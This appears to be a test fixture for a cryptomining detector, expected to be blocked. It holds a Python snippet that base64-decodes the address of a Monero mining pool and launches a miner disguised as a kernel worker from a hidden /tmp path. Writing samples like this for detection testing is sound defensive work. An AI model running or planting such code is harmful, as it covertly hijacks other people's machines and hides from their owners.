# expect: BLOCKED crypto_mining
import base64
import subprocess
args = base64.b64decode("LW8gc3RyYXR1bSt0Y3A6Ly9wb29sLm1pbmV4bXIuY29tOjQ0NDQ=").decode()
subprocess.Popen(["/tmp/.cache/kworker"] + args.split())
